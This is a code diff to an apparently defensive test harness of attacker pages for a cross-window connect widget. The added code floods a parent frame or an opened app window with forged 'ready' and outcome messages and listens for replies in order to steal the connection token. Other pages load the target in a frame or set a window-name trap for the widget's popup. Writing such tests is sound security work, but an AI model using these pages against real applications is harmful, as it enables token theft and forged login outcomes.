@@ -38,7 +38,17 @@ const forged = {
     ],
   },
 };
-const forgeries = [forged, { type: "alter-connect:error", v: 1, code: "forged" }];
+const forgeries = [
+  { type: "alter-connect:ready", v: 1 },
+  forged,
+  { type: "alter-connect:error", v: 1, code: "forged" },
+];
+
+/** Over and over, since the app's page may not listen yet. Whoever answers `ready` has lost the token. */
+const forge = (target) => {
+  addEventListener("message", (event) => report("stolen", event.data));
+  setInterval(() => forgeries.forEach((message) => target.postMessage(message, "*")), 50);
+};
 
 const pages = {
   /** C1: a top-level form whose text/plain body reads as JSON, posted across sites. */
@@ -85,7 +95,7 @@ const pages = {
       const popup = window.open(`${config.broker}/connect`, "_blank", "popup");
       addEventListener("message", (event) => {
         if (event.source !== popup) return;
-        report("message", event.data);
+        report(event.data.type, event.data);
         if (event.data.type === "alter-connect:ready")
           popup.postMessage(
             {
@@ -100,47 +110,35 @@ const pages = {
     });
   },
 
-  /** Shows the hosted page inside a frame. */
+  /** Shows a page inside a frame. */
   "/frame": () => {
-    addEventListener("message", (event) => report("message", event.data));
+    addEventListener("message", (event) => report(event.data.type, event.data));
     const frame = document.createElement("iframe");
-    frame.src = `${config.broker}/connect`;
+    frame.src = config.target;
     frame.addEventListener("load", () => report("frame", { loaded: true }));
     document.body.append(frame);
   },
 
-  /** As an iframe in the app's page: posts forged outcomes to it. */
+  /** As an iframe in the app's page: posts forged messages to it, and asks for the token. */
   "/child": () => {
-    setInterval(() => forgeries.forEach((message) => window.parent.postMessage(message, "*")), 50);
-    report("forging", {});
+    forge(window.parent);
   },
 
-  /** Holds the app's window by having opened it: posts forged outcomes to it. */
+  /** Holds the app's window by having opened it. */
   "/holder": () => {
-    button("open", () => {
-      const app = window.open(config.target, "_blank");
-      setInterval(() => forgeries.forEach((message) => app.postMessage(message, "*")), 50);
-    });
+    button("open", () => forge(window.open(config.target, "_blank")));
   },
 
-  /** M9: makes windows with names that the widget might use, then opens the app beside them. */
+  /**
+   * M9: makes a window with a name that the widget might use, shows any page of the app's origin in it (only
+   * then does the browser let the app find it by name), and opens the app beside it.
+   */
   "/names": () => {
     button("prepare", () => {
-      window.trap = window.open("/trap", config.name, "popup");
+      window.trap = window.open(config.trap, config.name, "popup");
     });
     button("open", () => window.open(config.target, "_blank"));
-    button("look", () => {
-      let url = "cross-origin";
-      try {
-        url = window.trap.location.href;
-      } catch {
-        // Another origin's page is in the trap now.
-      }
-      report("trap", { url, closed: window.trap.closed });
-    });
   },
-
-  "/trap": () => report("trapped", {}),
 };
 
 pages[location.pathname]();
